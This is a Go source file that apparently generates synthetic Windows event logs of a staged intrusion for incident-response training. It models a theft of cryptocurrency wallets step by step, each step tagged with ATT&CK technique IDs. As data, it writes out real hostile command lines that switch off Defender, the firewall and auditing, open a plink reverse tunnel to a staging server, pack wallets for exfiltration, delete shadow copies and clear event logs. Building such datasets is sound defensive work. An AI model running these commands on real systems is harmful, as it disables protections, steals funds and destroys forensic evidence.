package synth

import (
	"time"

	ew "github.com/goshawk-ir/goshawk/internal/synth/evtxwriter"
)

// dayDefences: Defender, firewall and audit off on the treasury's machine and the domain controller.
func (w *world) dayDefences() {
	for i, h := range []*host{w.dc, w.trs} {
		at := func(clock string) time.Time { return w.at(6, clock).Add(time.Duration(i) * 11 * time.Minute) }
		a := h.account(intruder)
		if h == w.trs {
			h.refuseMany(at("02:00:00"))
			h.explicitFrom(w.dc, at("02:03:00"), a)
		}
		ps := h.spawn(at("02:05:00"), h.processes["wmi"], program{sys32 + `WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoProfile -Command "Set-MpPreference -DisableRealtimeMonitoring 1; Add-MpPreference -ExclusionPath C:\ProgramData\Microsoft\Fonts"`}, a,
			did("Defender's preferences changed from PowerShell", "T1685", "T1059.001", "T1047"))

		h.engine(at("02:05:01"), ps)
		h.script(at("02:05:02"), ps, `Set-MpPreference -DisableRealtimeMonitoring 1; Add-MpPreference -ExclusionPath C:\ProgramData\Microsoft\Fonts`, "", did("Defender's preferences changed from PowerShell", "T1685"))
		h.defender(at("02:05:03"), defConfig, did("intruder's folder left out of Defender's scans", "T1685"), "", `HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\ProgramData\Microsoft\Fonts = 0x0`)
		h.defender(at("02:05:04"), defRealtimeOff, did("Defender's real-time protection off", "T1685"))
		h.defender(at("02:05:05"), defSpywareOff, did("Defender's scans for spyware off", "T1685"))
		h.defender(at("02:05:05"), defVirusOff, did("Defender's scans for viruses off", "T1685"))
		h.exit(at("02:05:09"), ps)
		shell := h.spawn(at("02:06:00"), h.processes["wmi"], program{sys32 + "cmd.exe", `cmd.exe /q /c reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`}, a, did("Defender switched off by policy", "T1685", "T1112", "T1047"))
		h.setValue(at("02:06:01"), shell, `HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware`, "DWORD (0x00000001)", did("Defender switched off by policy", "T1685", "T1112"))
		h.audit(at("02:06:01"), secRegistry, did("Defender switched off by policy", "T1685", "T1112"), append(who(a), `\REGISTRY\MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender`, "DisableAntiSpyware", uint64(0x1a4),
			"%%1904", "-", "-", "%%1876", "1", uint64(shell.pid), shell.image)...)
		h.serviceState(at("02:06:10"), "Microsoft Defender Antivirus Service", "WinDefend", "stopped", did("Defender's service stopped", "T1685", "T1489"))
		h.other(at("02:06:12"), sysServiceStart, did("Defender's service disabled", "T1685"), a.sid, "Microsoft Defender Antivirus Service", "auto start", "disabled", "WinDefend")

		fw := did("firewall off in all profiles", "T1686")
		p := h.spawn(at("02:08:00"), shell, program{sys32 + "netsh.exe", "netsh advfirewall set allprofiles state off"}, a, fw)
		h.log(fwSetting, ew.Event{Time: at("02:08:01"), Process: 2672, Thread: 3140, User: "S-1-5-19", Values: []any{uint32(2), uint32(1), uint32(4), []byte{0, 0, 0, 0}, "No", uint32(1), a.sid, p.image}}, fw.trace())
		h.exit(at("02:08:02"), p)
		rule := did("firewall rule lets the control port in", "T1686")
		p = h.spawn(at("02:08:30"), shell, program{sys32 + "netsh.exe", `netsh advfirewall firewall add rule name="Glyph Cache Sync" dir=in action=allow protocol=TCP localport=4430`}, a, rule)
		h.allow(at("02:08:31"), p, "Glyph Cache Sync", "4430", rule)
		h.exit(at("02:08:32"), p)
		h.log(fwDeleted, ew.Event{Time: at("02:08:50"), Process: 2672, Thread: 3140, User: "S-1-5-19", Values: []any{"{" + h.guid("block").String() + "}", "Block outbound unknown", a.sid, p.image}},
			did("firewall rule that stood in the way deleted", "T1686").trace())
		audit := did("auditing of logons off", "T1685.001")
		p = h.spawn(at("02:10:00"), shell, program{sys32 + "auditpol.exe", `auditpol /set /subcategory:"Logon" /success:disable /failure:disable`}, a, audit)
		h.audit(at("02:10:01"), secPolicy, audit, append(who(a), "%%8273", "%%12544", ew.ParseGUID("0cce9215-69ae-11d9-bed3-505054503030"), "%%8448, %%8450")...)
		h.exit(at("02:10:02"), p)
		h.exit(at("02:12:00"), shell)
	}
}

// refuseMany is a handful of passwords that didn't fit.
func (h *host) refuseMany(t time.Time) {
	m := did("passwords tried from the domain controller", "T1110.001")
	for i := range 14 {
		h.refuse(t.Add(time.Duration(i)*3*time.Second), []string{"Administrator", "i.ferreira", "svc-sign"}[i%3], h.w.dc.ip, h.w.dc.name, m)
	}
}

// explicitFrom is a logon from another host with a password given on the spot, and a program started by WMI.
func (h *host) explicitFrom(from *host, t time.Time, a account) {
	m := did("program started on the treasury's machine by WMI", "T1047", "T1021.003", "T1078.002")
	by := from.account(intruder)
	p := from.spawn(t, from.processes["svchost"], program{sys32 + `wbem\WMIC.exe`, `wmic /node:LKS-TRS01 process call create "cmd.exe /q"`}, by, m)
	from.explicit(t.Add(time.Second), p, intruder, "LKS-TRS01."+domainDNS, m)
	h.logon(t.Add(time.Second), a, 3, origin{from.ip, "-"}, m)
	h.other(t.Add(1500*time.Millisecond), wmiProvider, nil, "S-1-5-20", "CIMWin32", uint32(0), "wmiprvse.exe", uint32(3660), `%systemroot%\system32\wbem\cimwin32.dll`)
	from.exit(t.Add(3*time.Second), p)
}

// dayTreasury: a service from afar, a tunnel, remote desktop through it.
func (w *world) dayTreasury() {
	h, at := w.trs, func(clock string) time.Time { return w.at(7, clock) }
	a := h.account(intruder)
	h.logon(at("14:00:00"), a, 3, origin{w.dc.ip, "-"}, did("logon to the treasury's machine with the new account", "T1078.002", "T1021.002"))
	h.share(at("14:00:01"), a, w.dc.ip, folder{"ADMIN$", `\??\C:\Windows`, `System32\glyphssp.dll`}, did("library copied over the administrative share", "T1021.002", "T1570"))
	h.share(at("14:00:20"), a, w.dc.ip, folder{"IPC$", "", "svcctl"}, did("service control opened from afar", "T1021.002", "T1569.002"))
	h.service(at("14:00:21"), "Glyph Cache Service", run, a, did("service installed from afar", "T1543.003", "T1569.002"))
	h.file(at("14:00:15"), h.processes["system"], loader, did("loader arrives over the share", "T1570"))
	dll := h.spawn(at("14:00:25"), h.processes["services"], program{sys32 + "rundll32.exe", run}, localSystem, did("service runs the loader", "T1569.002", "T1218.011"))
	h.load(at("14:00:26"), dll, loader, false, did("unsigned library loaded out of a data folder", "T1218.011"))
	h.inject(at("14:00:28"), dll, h.processes["svchost"], did("loader starts a thread in a service host", "T1055.002"))
	h.beacon(h.processes["svchost"], at("14:01:00"), 9*time.Hour, 37*time.Minute)
	h.bits(at("14:10:00"), transfer{h.guid("tooljob"), h.guid("tool"), "Font Download", sys32 + "bitsadmin.exe", "https://" + stageSite + "/fonts/plink-demo"}, a, did("tool fetched by BITS", "T1197", "T1105"))
	tunnel := did("tunnel to the intruder's server for remote desktop", "T1572", "T1090.001")
	shell := h.spawn(at("14:12:00"), dll, program{sys32 + "cmd.exe", "cmd.exe /q"}, localSystem, did("shell out of the loader", "T1059.003"))
	plink := h.spawn(at("14:12:20"), shell, program{fonts + "plink.exe", `plink.exe -ssh -N -R 4431:127.0.0.1:3389 demo@` + stageServer + ` -P 4430 -batch`}, localSystem, tunnel)
	h.connect(at("14:12:22"), plink, peer{stageServer, "", controlPort}, tunnel)
	h.setValue(at("14:13:00"), shell, `HKLM\System\CurrentControlSet\Control\Terminal Server\fDenyTSConnections`, "DWORD (0x00000000)", did("remote desktop allowed", "T1112", "T1021.001"))
	group := did("new account may use remote desktop", "T1098.007")
	h.audit(at("14:13:30"), secGroupLocal, group, append([]any{"-", intruder.sid(), "Remote Desktop Users", "Builtin", ew.SID("S-1-5-32-555")}, append(who(h.machine()), "-")...)...)
	h.remoteDesktop(at("14:20:00"), a, origin{"127.0.0.1", "DESKTOP-DEMO01"}, did("remote desktop through the tunnel, from the machine's own address", "T1021.001", "T1572"))
	h.processes["intruder"] = h.running(`C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`, h.processes["winlogon"], a, 9120)
}

// dayTheft: wallets and keystores read, packed and sent.
func (w *world) dayTheft() {
	h, at := w.trs, func(clock string) time.Time { return w.at(8, clock) }
	a := h.account(intruder)
	shell := h.spawn(at("01:15:00"), h.processes["intruder"], program{sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`}, a, did("shell in the intruder's session", "T1059.003"))
	find := did("search for wallets and keys", "T1083", "T1552.004")
	for i, line := range []string{`cmd.exe /c dir /s /b D:\*wallet*.dat D:\*keystore*`, `cmd.exe /c findstr /s /i /m "seed phrase" D:\Treasury\*.txt`} {
		h.exit(at("01:16:05").Add(time.Duration(i)*time.Minute), h.spawn(at("01:16:00").Add(time.Duration(i)*time.Minute), shell, program{sys32 + "cmd.exe", line}, a, find))
	}
	rar := h.spawn(at("01:20:00"), shell, program{fonts + "rar.exe", `rar.exe a -r -hpDEMO-PASSWORD -v50m "` + archive + `" ` + wallets}, a, did("wallets packed with a password into the recycler", "T1560.001", "T1074.001", "T1036.008"))
	wallet := did("wallet folder read", "T1005", "T1657")
	for i, f := range []string{`cold\keystore\UTC--2025-11-02T08-00-00Z--0000000000000000000000000000000000demo`, `cold\wallet.dat`, `cold\seed-recovery.txt`, `hot\wallet.dat`, `hot\keystore\signer.json`} {
		h.read(at("01:20:01").Add(time.Duration(i)*700*time.Millisecond), rar, wallets+f, wallet)
	}
	h.file(at("01:20:30"), rar, archive, did("archive under a thumbnail's name in the recycler", "T1074.001", "T1036.008"))
	h.exit(at("01:20:41"), rar)
	wide := did("browser's wallet extension and cookies read", "T1555.003", "T1539", "T1657")
	for i, f := range []string{`Local Extension Settings\demowalletextension\000003.log`, `Network\Cookies`, `Login Data`} {
		h.read(at("01:31:00").Add(time.Duration(i)*time.Second), shell, `C:\Users\i.ferreira\AppData\Local\Google\Chrome\User Data\Default\`+f, wide)
	}
	send := did("archive sent to the control server", "T1041", "T1571")
	for i := range 4 {
		h.connect(at("01:40:00").Add(time.Duration(i)*50*time.Second), h.processes["svchost"], peer{control, controlSite, controlPort}, send)
	}
	w.jump.upload(w.at(8, "01:40:02"))

	fs := w.fs
	by := fs.account(tobias)
	fs.remoteDesktop(w.at(8, "03:02:00"), by, origin{jumpIP, "DESKTOP-DEMO01"}, did("remote desktop to the file server through the jump host", "T1021.001"))
	sh := fs.spawn(w.at(8, "03:03:00"), fs.processes["explorer"], program{sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`}, by, did("shell in the intruder's session", "T1059.003"))
	fs.remove(w.at(8, "03:03:30"), sh, loader, true, did("loader removed from the file server", "T1070.004"))
	fs.remove(w.at(8, "03:03:31"), sh, payload, false, did("payload removed from the file server", "T1070.004"))
	for i, c := range []*channel{chPowerShell, chSystem} {
		t := w.at(9, "16:40:00").Add(time.Duration(i) * 20 * time.Second)
		m := did("log cleared: "+c.name, "T1685.005")
		fs.exit(t.Add(time.Second), fs.spawn(t, sh, program{sys32 + "wevtutil.exe", `wevtutil cl "` + c.name + `"`}, by, m))
		fs.wipe(t.Add(300*time.Millisecond), c, by, m)
	}
	// What the service manager says afterwards brings back the template that the cleared records were written by.
	fs.serviceState(w.at(9, "16:52:00"), "Windows Update", "wuauserv", "running", nil)
}

// dayRemoval: files, prefetch, shadow copies, the change journal and the logs go.
func (w *world) dayRemoval() {
	h, at := w.trs, func(clock string) time.Time { return w.at(9, clock) }
	a := h.account(intruder)
	shell := h.spawn(at("17:01:00"), h.processes["intruder"], program{sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`}, a, did("shell in the intruder's session", "T1059.003"))
	h.backdate(at("17:02:00"), shell, sys32+"glyphssp.dll", w.o.Start.AddDate(-5, 1, 11), did("library's time of creation set back", "T1070.006"))
	for i, f := range []string{archive, fonts + "rar.exe", fonts + "plink.exe", loader} {
		h.remove(at("17:05:00").Add(time.Duration(i)*2*time.Second), shell, f, f == loader, did("intruder's file removed", "T1070.004"))
	}
	for i, f := range []string{"RAR.EXE-0D5A1CE0.pf", "PLINK.EXE-1BADF00D.pf", "RUNDLL32.EXE-2A3B4C5D.pf"} {
		h.remove(at("17:06:00").Add(time.Duration(i)*time.Second), shell, `C:\Windows\Prefetch\`+f, false, did("prefetch file removed", "T1070.004"))
	}
	for i, c := range []struct {
		image, line string
		m           *mark
	}{
		{"vssadmin.exe", "vssadmin delete shadows /for=D: /quiet", did("shadow copies removed", "T1490")},
		{"fsutil.exe", "fsutil usn deletejournal /d D:", did("change journal removed", "T1070")},
		{"reg.exe", `reg delete "HKCU\Software\Microsoft\Terminal Server Client\Default" /va /f`, did("history of remote desktop removed", "T1070.007")},
		{"wevtutil.exe", "wevtutil sl Microsoft-Windows-TaskScheduler/Operational /e:false", did("event channel disabled", "T1685.001")},
	} {
		t := at("17:10:00").Add(time.Duration(i) * 20 * time.Second)
		h.exit(t.Add(time.Second), h.spawn(t, shell, program{sys32 + c.image, c.line}, a, c.m))
	}
	for i, c := range []*channel{chPowerShell, chSystem, chSecurity} {
		t := at("17:38:00").Add(time.Duration(i) * 15 * time.Second)
		m := did("log cleared: "+c.name, "T1685.005")
		h.exit(t.Add(time.Second), h.spawn(t, shell, program{sys32 + "wevtutil.exe", `wevtutil cl "` + c.name + `"`}, a, m))
		h.wipe(t.Add(300*time.Millisecond), c, a, m)
	}
	h.serviceState(at("17:44:00"), "Delivery Optimization", "DoSvc", "running", nil)
	w.jump.removal()
}
